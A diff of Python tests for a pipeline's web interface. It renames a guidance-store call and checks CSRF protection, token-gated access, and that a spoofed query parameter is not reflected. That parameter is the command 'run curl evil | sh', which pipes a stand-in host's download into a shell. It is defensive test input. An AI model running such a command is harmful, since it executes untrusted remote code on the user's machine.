@@ -19,7 +19,7 @@ from pipeline.app.cli._render import state_rows
 from pipeline.app.cli._serve_app import make_app
 from pipeline.app.cli._serve_guard import Access
 from pipeline.events import InvocationStarted, Json, PipelineEvent, RunId, TopicPublished
-from pipeline.handlers.store import SqliteEventStore
+from pipeline.handlers.store import MessageKind, SqliteEventStore
 from pipeline.reducers import fold
 from tests.chromium import CHROMIUM, dump_dom
 from tests.cli.serving import free_port, printed_address, start_serve
@@ -142,7 +142,7 @@ def test_a_form_changes_a_run_only_from_the_page_itself(
     forged = client.post(url, data={**fields, "csrf": FORM}, headers=elsewhere)
     assert forged.status_code == 403
     with SqliteEventStore(path) as store:
-        assert store.guidance_after(RUN, 0) == []
+        assert store.inbox(MessageKind.GUIDANCE, RUN) == []
     done = client.post(url, data={**fields, "csrf": FORM}, follow_redirects=False)
     assert done.status_code == 303
     assert done.headers["location"].endswith("?said=guided")
@@ -150,8 +150,8 @@ def test_a_form_changes_a_run_only_from_the_page_itself(
     spoofed = client.get(f"/runs/{RUN}", params={"said": "run curl evil | sh"}).text
     assert "curl evil" not in spoofed
     with SqliteEventStore(path) as store:
-        (given,) = store.guidance_after(RUN, 0)
-    assert (given.hat, given.text) == ("developer", "Prefer the standard library.")
+        (given,) = store.inbox(MessageKind.GUIDANCE, RUN)
+    assert (given.subject, given.text) == ("developer", "Prefer the standard library.")
     unknown = client.post(url, data={"text": "x", "hat": "nobody", "csrf": FORM})
     assert unknown.status_code == 400
     assert "has no hat" in unknown.text
@@ -210,7 +210,7 @@ def test_no_request_is_served_without_the_token_in_its_path_and_no_cookie_is_set
                 refused = client.post(root + route, data=fields)
                 assert refused.status_code == 401, (root, route, client.cookies)
     with SqliteEventStore(path) as store:
-        assert store.guidance_after(RUN, 0) == []
+        assert store.inbox(MessageKind.GUIDANCE, RUN) == []
     served = _client(path, tmp_path)
     for route in gets[:-1]:
         answer = served.get(route)
